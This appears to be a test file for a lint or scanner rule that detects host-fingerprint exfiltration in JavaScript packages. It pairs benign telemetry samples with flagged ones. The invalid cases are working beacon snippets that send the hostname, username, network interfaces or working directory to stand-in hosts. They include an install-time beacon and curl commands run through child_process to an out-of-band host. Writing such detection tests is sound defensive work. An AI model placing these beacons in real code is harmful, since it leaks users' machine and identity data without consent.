import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/host-fingerprint-exfiltration.ts'

new RuleTester().run(rule, {
  valid: [
    // first-party telemetry: platform, versions and a hashed id
    "const os = require('os'); const crypto = require('crypto'); const id = crypto.createHash('sha256').update(os.hostname()).digest('hex'); fetch('https://telemetry.vendor.invalid/e', { method: 'POST', body: JSON.stringify({ id, platform: os.platform(), arch: os.arch(), node: process.version }) })",
    // local agent
    "const os = require('os'); fetch('http://127.0.0.1:8126/v1', { method: 'POST', body: JSON.stringify({ host: os.hostname() }) })",
    "const os = require('os'); console.log(os.hostname(), os.userInfo().username)",
  ],
  invalid: [
    {
      name: 'install-time beacon',
      code: "const os = require('os'); const axios = require('axios'); axios.post('https://collect.invalid/r', { host: os.hostname(), user: os.userInfo().username, pkg: process.env.npm_package_name })",
      installTime: true,
      errors: [{ severity: 'critical', message: 'host name, user name' }],
    },
    {
      name: 'runtime beacon with MAC addresses to a fixed host',
      code: "const os = require('os'); const https = require('https'); const req = https.request({ hostname: 'collect.invalid', path: '/r', method: 'POST' }); req.end(JSON.stringify({ h: os.hostname(), n: os.networkInterfaces() }))",
      errors: [{ severity: 'high' }],
    },
    {
      name: 'to a raw IP',
      code: "const os = require('os'); fetch('http://192.0.2.9/x?h=' + os.hostname())",
      errors: [{ severity: 'critical', message: 'raw IP' }],
    },
    {
      name: 'configured endpoint (error reporter) is low',
      code: "const os = require('os'); module.exports = (dsn, event) => fetch(dsn, { method: 'POST', body: JSON.stringify({ ...event, server_name: os.hostname() }) })",
      errors: [{ severity: 'low' }],
    },
  ],
})

new RuleTester().run(rule, {
  valid: ["require('child_process').exec('curl -s https://registry.npmjs.org/-/ping')"],
  invalid: [
    {
      name: 'shell beacon at run time to an OOB host',
      code: "require('child_process').exec('curl -X POST -d \"$(hostname)|$(whoami)|$(pwd)\" https://abc.burpcollaborator.net')",
      errors: [{ severity: 'critical', message: 'shell command' }],
    },
    {
      name: 'shell beacon with host data from code',
      code: "const os = require('os'); require('child_process').execSync('curl https://collect.invalid/?u=' + os.userInfo().username)",
      errors: [{ severity: 'high' }],
    },
  ],
})
